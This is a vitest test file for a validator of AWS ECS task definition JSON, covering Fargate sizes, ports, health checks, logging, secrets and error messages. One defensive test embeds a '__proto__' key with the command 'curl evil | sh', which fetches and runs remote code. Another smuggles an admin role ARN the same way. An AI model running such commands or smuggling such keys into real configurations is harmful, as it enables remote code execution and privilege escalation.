import { describe, expect, it } from 'vitest';
import { checkTaskDefinitionJson, formatPath, type Problem } from './task-definition';

type Json = Record<string, unknown>;

const ROLE = 'arn:aws:iam::123456789012:role/CruddurServiceExecutionRole';
const flask = (extra: Json = {}): Json => ({
  name: 'backend-flask',
  image: '123456789012.dkr.ecr.us-east-1.amazonaws.com/backend-flask:latest',
  essential: true,
  portMappings: [
    { name: 'backend-flask', containerPort: 4567, protocol: 'tcp', appProtocol: 'http' },
  ],
  healthCheck: {
    command: ['CMD-SHELL', 'python /backend-flask/bin/flask/health-check'],
    interval: 30,
    timeout: 5,
    retries: 3,
    startPeriod: 60,
  },
  logConfiguration: {
    logDriver: 'awslogs',
    options: {
      'awslogs-group': 'cruddur',
      'awslogs-region': 'us-east-1',
      'awslogs-stream-prefix': 'backend-flask',
    },
  },
  ...extra,
});
const xray = {
  name: 'xray',
  image: 'public.ecr.aws/xray/aws-xray-daemon',
  essential: true,
  user: '1337',
  portMappings: [{ name: 'xray', containerPort: 2000, protocol: 'udp' }],
};
/** The seed document's backend-flask.json with the X-Ray sidecar. */
const seed = (extra: Json = {}, containers: Json[] = [xray, flask()]): Json => ({
  family: 'backend-flask',
  executionRoleArn: ROLE,
  taskRoleArn: 'arn:aws:iam::123456789012:role/CruddurTaskRole',
  networkMode: 'awsvpc',
  cpu: '256',
  memory: '512',
  requiresCompatibilities: ['FARGATE'],
  containerDefinitions: containers,
  ...extra,
});

const check = (value: unknown) =>
  checkTaskDefinitionJson(typeof value === 'string' ? value : JSON.stringify(value, null, 2));
const problems = (value: unknown): Problem[] => {
  const result = check(value);
  return result.ok ? [] : result.problems;
};

describe('valid task definitions', () => {
  it.each<[string, unknown]>([
    ['the seed backend-flask with the X-Ray sidecar', seed()],
    [
      'frontend with a curl health check',
      seed({ family: 'frontend-react-js' }, [
        flask({
          name: 'frontend-react-js',
          healthCheck: { command: ['CMD-SHELL', 'curl -f http://localhost:3000 || exit 1'] },
        }),
      ]),
    ],
    ['cpu 1024 with memory 8192', seed({ cpu: '1024', memory: '8192' })],
    ['vCPU and GB units', seed({ cpu: '1 vCPU', memory: '2 GB' })],
    ['16 vCPU at its maximum', seed({ cpu: '16384', memory: '122880' })],
    [
      'EC2 with container memory',
      { family: 'ec2-app', containerDefinitions: [{ name: 'app', image: 'nginx', memory: 256 }] },
    ],
    [
      'hostPort equal to containerPort',
      seed({}, [flask({ portMappings: [{ containerPort: 4567, hostPort: 4567 }] })]),
    ],
    [
      'describe-task-definition output, read-only fields and all',
      {
        taskDefinition: {
          ...seed(),
          taskDefinitionArn: 'arn:aws:ecs:us-east-1:123456789012:task-definition/backend-flask:7',
          revision: 7,
          status: 'ACTIVE',
          compatibilities: ['EC2', 'FARGATE'],
          requiresAttributes: [{ name: 'ecs.capability.task-eni' }],
          registeredAt: '2026-11-26T10:00:00Z',
          registeredBy: 'arn:aws:iam::123456789012:root',
        },
        tags: [],
      },
    ],
  ])('%s', (_, value) => {
    const result = check(value);
    expect(result.ok ? 'ok' : result.problems).toBe('ok');
  });

  it('strips the read-only fields of describe-task-definition output', () => {
    const result = check({
      taskDefinition: { ...seed(), revision: 3, status: 'ACTIVE', registeredAt: 'x' },
      tags: [{ key: 'a', value: 'b' }],
    });
    expect(result.ok).toBe(true);
    const registration = result.ok ? result.registration : {};
    for (const field of ['revision', 'status', 'registeredAt']) {
      expect(registration).not.toHaveProperty(field);
    }
    expect(registration.family).toBe(seed().family);
    expect(registration.tags).toEqual([{ key: 'a', value: 'b' }]);
  });
});

describe('invalid task definitions: message and path', () => {
  it.each<[string, unknown, string, string]>([
    [
      'Fargate cpu 256 with memory 4096',
      seed({ memory: '4096' }),
      'memory',
      'memory 4096 does not go with cpu 256 on Fargate: use 512, 1024 or 2048.',
    ],
    [
      'Fargate cpu 1024 with memory 1024',
      seed({ cpu: '1024', memory: '1024' }),
      'memory',
      'use 2048 to 8192 in steps of 1024',
    ],
    [
      'Fargate cpu not a size',
      seed({ cpu: '300' }),
      'cpu',
      'cpu 300 is not a Fargate size: use 256, 512, 1024, 2048, 4096, 8192, 16384.',
    ],
    ['Fargate without cpu', seed({ cpu: undefined }), 'cpu', 'Fargate needs a task-level cpu'],
    [
      'Fargate without memory',
      seed({ memory: undefined }),
      'memory',
      'Fargate needs a task-level memory: with cpu 256 use 512, 1024 or 2048.',
    ],
    [
      'Fargate with bridge networking',
      seed({ networkMode: 'bridge' }),
      'networkMode',
      'Fargate needs networkMode "awsvpc", not "bridge".',
    ],
    ['cpu as a number', seed({ cpu: 256 }), 'cpu', 'cpu is a string of CPU units, e.g. "256".'],
    [
      'family with spaces',
      seed({ family: 'backend flask' }),
      'family',
      'family is 1-255 letters, digits, hyphens and underscores.',
    ],
    ['no family', seed({ family: undefined }), 'family', 'family is required'],
    [
      'no containers',
      seed({}, []),
      'containerDefinitions',
      'containerDefinitions needs at least one container.',
    ],
    [
      'a masked secret pasted back from the JSON view',
      seed({}, [
        flask({
          environment: [
            { name: 'FRONTEND_URL', value: 'https://cruddur.example' },
            { name: 'HONEYCOMB_API_KEY', value: '•••••• (masked: reveal it in Summary)' },
          ],
        }),
      ]),
      'containerDefinitions[0].environment[1].value',
      'HONEYCOMB_API_KEY holds Berth\'s mask (••••••), not its value: reveal the value and paste it, type it again, or move it to "secrets" (Secrets Manager or Parameter Store).',
    ],
    [
      'container without image',
      seed({}, [flask({ image: undefined })]),
      'containerDefinitions[0].image',
      'Every container needs an image',
    ],
    [
      'container name with a dot',
      seed({}, [flask({ name: 'backend.flask' })]),
      'containerDefinitions[0].name',
      'Container names are 1-255 letters',
    ],
    [
      'duplicate container names',
      seed({}, [flask(), flask()]),
      'containerDefinitions[1].name',
      'Duplicate container name "backend-flask"',
    ],
    [
      'no essential container',
      seed({}, [flask({ essential: false })]),
      'containerDefinitions',
      'At least one container must be essential',
    ],
    [
      'awsvpc hostPort differs',
      seed({}, [flask({ portMappings: [{ containerPort: 4567, hostPort: 80 }] })]),
      'containerDefinitions[0].portMappings[0].hostPort',
      'hostPort must equal containerPort (4567)',
    ],
    [
      'port out of range',
      seed({}, [flask({ portMappings: [{ containerPort: 70000 }] })]),
      'containerDefinitions[0].portMappings[0].containerPort',
      'containerPort must be between 1 and 65535.',
    ],
    [
      'protocol sctp',
      seed({}, [flask({ portMappings: [{ containerPort: 80, protocol: 'sctp' }] })]),
      'containerDefinitions[0].portMappings[0].protocol',
      'protocol is "tcp" or "udp".',
    ],
    [
      'health check without CMD',
      seed({}, [flask({ healthCheck: { command: ['curl', '-f', 'http://localhost'] } })]),
      'containerDefinitions[0].healthCheck.command',
      'must start with "CMD" or "CMD-SHELL"',
    ],
    [
      'health check interval 3',
      seed({}, [flask({ healthCheck: { command: ['CMD', 'true'], interval: 3 } })]),
      'containerDefinitions[0].healthCheck.interval',
      'healthCheck.interval must be between 5 and 300.',
    ],
    [
      'health check timeout 61',
      seed({}, [flask({ healthCheck: { command: ['CMD', 'true'], timeout: 61 } })]),
      'containerDefinitions[0].healthCheck.timeout',
      'healthCheck.timeout must be between 2 and 60.',
    ],
    [
      'health check retries 0',
      seed({}, [flask({ healthCheck: { command: ['CMD', 'true'], retries: 0 } })]),
      'containerDefinitions[0].healthCheck.retries',
      'healthCheck.retries must be between 1 and 10.',
    ],
    [
      'health check start period 301',
      seed({}, [flask({ healthCheck: { command: ['CMD', 'true'], startPeriod: 301 } })]),
      'containerDefinitions[0].healthCheck.startPeriod',
      'healthCheck.startPeriod must be between 0 and 300.',
    ],
    [
      'awslogs without a group',
      seed({}, [
        flask({
          logConfiguration: {
            logDriver: 'awslogs',
            options: { 'awslogs-region': 'us-east-1', 'awslogs-stream-prefix': 'p' },
          },
        }),
      ]),
      'containerDefinitions[0].logConfiguration.options',
      'The awslogs driver needs option "awslogs-group".',
    ],
    [
      'awslogs without a stream prefix on Fargate',
      seed({}, [
        flask({
          logConfiguration: {
            logDriver: 'awslogs',
            options: { 'awslogs-group': 'g', 'awslogs-region': 'us-east-1' },
          },
        }),
      ]),
      'containerDefinitions[0].logConfiguration.options',
      'The awslogs driver needs option "awslogs-stream-prefix" on Fargate',
    ],
    [
      'awslogs on Fargate without an execution role',
      seed({ executionRoleArn: undefined }),
      'executionRoleArn',
      'Fargate needs executionRoleArn to send container "backend-flask"\'s logs with awslogs.',
    ],
    [
      'unknown log driver',
      seed({}, [flask({ logConfiguration: { logDriver: 'loki' } })]),
      'containerDefinitions[0].logConfiguration.logDriver',
      'logDriver is one of awslogs',
    ],
    [
      'role that is not an ARN',
      seed({ taskRoleArn: 'CruddurTaskRole' }),
      'taskRoleArn',
      'taskRoleArn must be an IAM role ARN',
    ],
    [
      'environment value as a number',
      seed({}, [flask({ environment: [{ name: 'PORT', value: 4567 }] })]),
      'containerDefinitions[0].environment[0].value',
      'Environment values are strings: quote numbers and booleans.',
    ],
    [
      'secret without valueFrom',
      seed({}, [flask({ secrets: [{ name: 'CONNECTION_URL' }] })]),
      'containerDefinitions[0].secrets[0].valueFrom',
      'Each secret needs valueFrom',
    ],
    [
      'unknown top-level field',
      seed({ containerDefinition: [] }),
      'containerDefinition',
      'Unknown field "containerDefinition": RegisterTaskDefinition does not take it.',
    ],
    [
      'EC2 container without memory',
      { family: 'ec2-app', containerDefinitions: [{ name: 'app', image: 'nginx' }] },
      'containerDefinitions[0]',
      'needs memory or memoryReservation',
    ],
    [
      'container memory above the task',
      seed({}, [flask({ memory: 1024 })]),
      'containerDefinitions[0].memory',
      "asks for 1024 MiB, more than the task's 512.",
    ],
    [
      'more than 10 containers',
      seed(
        {},
        Array.from({ length: 11 }, (_, i) => flask({ name: `c${i}` })),
      ),
      'containerDefinitions',
      'at most 10 containers',
    ],
  ])('%s', (_, value, path, message) => {
    const found = problems(value);
    expect(found.map((p) => ({ path: formatPath(p.path), message: p.message }))).toContainEqual({
      path,
      message: expect.stringContaining(message) as unknown,
    });
  });

  it('reports every problem at once, each with its line', () => {
    const text = JSON.stringify(seed({ memory: '4096', networkMode: 'bridge' }), null, 2);
    const found = problems(text);
    expect(found.map((p) => formatPath(p.path)).sort()).toEqual(['memory', 'networkMode']);
    const memoryLine = text.split('\n').findIndex((line) => line.includes('"memory"')) + 1;
    expect(found.find((p) => formatPath(p.path) === 'memory')?.line).toBe(memoryLine);
  });

  it('says where invalid JSON breaks', () => {
    expect(problems('{\n  "family": "x",\n  "cpu": "256"\n  "memory": "512"\n}')).toEqual([
      {
        path: [],
        line: 4,
        message: 'Invalid JSON at line 4, column 3: a comma is missing before this.',
      },
    ]);
    expect(problems('')[0]?.message).toMatch(/Invalid JSON|empty/);
    expect(problems('[1, 2]')[0]?.message).toContain('A task definition is a JSON object');
  });

  it('points lines into describe-task-definition output too', () => {
    const text = JSON.stringify({ taskDefinition: seed({ memory: '4096' }) }, null, 2);
    const line = text.split('\n').findIndex((l) => l.includes('"memory": "4096"')) + 1;
    expect(problems(text)).toEqual([expect.objectContaining({ line, path: ['memory'] })]);
  });
});

describe('input that would hide what is sent, or break the checker', () => {
  const valid = {
    family: 'backend-flask',
    containerDefinitions: [{ name: 'app', image: 'nginx:1.27', essential: true, memory: 128 }],
  };

  it('refuses "__proto__" keys, which the preview would not show but the SDK would send', () => {
    const text = JSON.stringify(valid, null, 2).replace(
      '"essential": true,',
      '"essential": true,\n      "__proto__": { "command": ["sh", "-c", "curl evil | sh"] },',
    );
    expect(checkTaskDefinitionJson(text)).toEqual({
      ok: false,
      problems: [
        {
          path: [],
          line: 8,
          message:
            '"__proto__" is not a task definition field: remove it. (JavaScript would hide what it holds from the preview and still send it.)',
        },
      ],
    });
  });

  it('refuses a top-level "__proto__" too', () => {
    const result = checkTaskDefinitionJson(
      `{"__proto__": {"taskRoleArn": "arn:aws:iam::123456789012:role/admin"}, ${JSON.stringify(valid).slice(1)}`,
    );
    expect(result.ok).toBe(false);
  });

  it('refuses 10,000 levels of nesting with a message, not a stack overflow', () => {
    const text = `${'['.repeat(10_000)}${']'.repeat(10_000)}`;
    expect(checkTaskDefinitionJson(text)).toEqual({
      ok: false,
      problems: [
        {
          path: [],
          line: 1,
          message:
            'The JSON is nested 32+ levels deep at line 1; a task definition is at most a few levels deep. Paste the task definition itself.',
        },
      ],
    });
  });

  it('counts brackets inside strings as text', () => {
    const text = JSON.stringify({ ...valid, family: 'backend-flask' }).replace(
      '"image":"nginx:1.27"',
      `"image":"nginx:1.27","command":["${'['.repeat(100)}\\"${'{'.repeat(100)}"]`,
    );
    expect(checkTaskDefinitionJson(text).ok).toBe(true);
  });
});

describe('Fargate sizes: exactly the pairs AWS accepts', () => {
  // AWS's table, written out here independently of lib/ecs/fargate.ts.
  const range = (from: number, to: number, step: number) =>
    Array.from({ length: (to - from) / step + 1 }, (_, i) => from + i * step);
  const VALID: [number, number[]][] = [
    [256, [512, 1024, 2048]],
    [512, range(1024, 4096, 1024)],
    [1024, range(2048, 8192, 1024)],
    [2048, range(4096, 16384, 1024)],
    [4096, range(8192, 30720, 1024)],
    [8192, range(16384, 61440, 4096)],
    [16384, range(32768, 122880, 8192)],
  ];

  it.each(VALID.flatMap(([cpu, memories]) => memories.map((memory) => [cpu, memory])))(
    'cpu %i with memory %i is accepted',
    (cpu, memory) => {
      expect(problems(seed({ cpu: String(cpu), memory: String(memory) }))).toEqual([]);
    },
  );

  it.each([
    [256, 256],
    [256, 1536],
    [256, 3072],
    [512, 512],
    [512, 1536],
    [512, 5120],
    [1024, 1024],
    [1024, 9216],
    [2048, 3072],
    [2048, 17408],
    [4096, 7168],
    [4096, 31744],
    [8192, 12288],
    [8192, 17408],
    [8192, 65536],
    [16384, 24576],
    [16384, 36864],
    [16384, 131072],
  ])('cpu %i with memory %i is refused on memory', (cpu, memory) => {
    const found = problems(seed({ cpu: String(cpu), memory: String(memory) }));
    expect(found.map((p) => formatPath(p.path))).toEqual(['memory']);
    expect(found[0]?.message).toMatch(
      new RegExp(`^memory ${memory} does not go with cpu ${cpu} on Fargate: use `),
    );
  });

  it.each([128, 255, 257, 768, 3072, 32768])('cpu %i is not a Fargate size', (cpu) => {
    expect(problems(seed({ cpu: String(cpu), memory: '2048' }))).toMatchObject([
      {
        path: ['cpu'],
        message: `cpu ${cpu} is not a Fargate size: use 256, 512, 1024, 2048, 4096, 8192, 16384.`,
      },
    ]);
  });
});

describe('each field says what is wrong with it, exactly', () => {
  const container = (extra: Json) => seed({}, [flask(extra)]);
  it.each<[string, unknown, string]>([
    [
      'appProtocol',
      container({ portMappings: [{ containerPort: 80, appProtocol: 'ws' }] }),
      'appProtocol is "http", "http2" or "grpc".',
    ],
    [
      'protocol',
      container({ portMappings: [{ containerPort: 80, protocol: 'sctp' }] }),
      'protocol is "tcp" or "udp".',
    ],
    [
      'port name',
      container({ portMappings: [{ containerPort: 80, name: 'Web_Port' }] }),
      'Port names are lowercase letters, digits and hyphens (up to 64), as Service Connect needs.',
    ],
    [
      'secret name',
      container({ secrets: [{ name: '', valueFrom: 'x' }] }),
      'Each secret needs a name.',
    ],
    [
      'secret without name',
      container({ secrets: [{ valueFrom: 'x' }] }),
      'Each secret needs a name.',
    ],
    [
      'environment name',
      container({ environment: [{ name: '', value: 'x' }] }),
      'Each environment entry needs a name.',
    ],
    [
      'environment list',
      container({ environment: {} }),
      'environment is a list of {"name", "value"}.',
    ],
    ['secrets list', container({ secrets: 'x' }), 'secrets is a list of {"name", "valueFrom"}.'],
    ['port mappings list', container({ portMappings: {} }), 'portMappings is a list.'],
    ['essential', container({ essential: 'yes' }), 'essential is true or false.'],
    [
      'log options',
      container({ logConfiguration: { logDriver: 'awslogs', options: { a: 1 } } }),
      'Log options are strings.',
    ],
    ['container name', container({ name: undefined }), 'Every container needs a name.'],
    [
      'health command',
      container({ healthCheck: { command: ['curl', 'x'] } }),
      'healthCheck.command must start with "CMD" or "CMD-SHELL", e.g. ["CMD-SHELL", "curl -f http://localhost/ || exit 1"].',
    ],
    ['cpu not a number', container({ cpu: '1' }), 'cpu must be a number.'],
    [
      'networkMode',
      seed({ networkMode: 'nat' }),
      'networkMode is "awsvpc", "bridge", "host" or "none".',
    ],
    [
      'compatibility',
      seed({ requiresCompatibilities: ['LAMBDA'] }),
      'requiresCompatibilities holds "FARGATE", "EC2", "EXTERNAL" or "MANAGED_INSTANCES".',
    ],
    [
      'containers list',
      seed({ containerDefinitions: {} }),
      'containerDefinitions is required: a list of containers.',
    ],
    [
      'role ARN',
      seed({ executionRoleArn: 'arn:aws:iam::123:role/x' }),
      'executionRoleArn must be an IAM role ARN, arn:aws:iam::<account>:role/<name>.',
    ],
  ])('%s', (_, value, message) => {
    expect(problems(value).map((p) => p.message)).toEqual([message]);
  });
});

describe('sizes, network mode and the document around it', () => {
  it.each<[string, string, string, boolean]>([
    ['1 vCPU with 2 GB', '1 vCPU', '2 GB', true],
    ['0.25 vcpu with 0.5gb', '0.25 vcpu', '0.5gb', true],
    ['1 vCPU with 1 GB', '1 vCPU', '1 GB', false],
    ['cpu in GB', '1 GB', '2048', false],
  ])('reads %s as AWS does', (_, cpu, memory, ok) => {
    expect(check(seed({ cpu, memory })).ok).toBe(ok);
  });

  it('asks hostPort to equal containerPort with awsvpc, not with bridge on EC2', () => {
    const port = { containerPort: 4567, hostPort: 80 };
    expect(problems(seed({}, [flask({ portMappings: [port] })])).map((p) => p.message)).toEqual([
      'With awsvpc, hostPort must equal containerPort (4567) or be left out.',
    ]);
    const ec2 = seed(
      {
        networkMode: 'bridge',
        requiresCompatibilities: ['EC2'],
        cpu: undefined,
        memory: undefined,
      },
      [flask({ portMappings: [port], memory: 512 })],
    );
    expect(problems(ec2)).toEqual([]);
  });

  it.each(['[]', 'null', '"text"', '3'])('refuses %s: a task definition is an object', (text) => {
    expect(problems(text)).toEqual([
      {
        path: [],
        line: 1,
        message:
          'A task definition is a JSON object: {"family": ..., "containerDefinitions": [...]}.',
      },
    ]);
  });

  it('keeps the tags of describe-task-definition output, and only non-empty ones', () => {
    const tags = [{ key: 'team', value: 'cruddur' }];
    const wrapped = check({ taskDefinition: seed(), tags });
    expect(wrapped.ok && wrapped.registration.tags).toEqual(tags);
    const untagged = check({ taskDefinition: seed(), tags: [] });
    if (!untagged.ok) throw new Error('the untagged document should pass');
    expect('tags' in untagged.registration).toBe(false);
  });
});
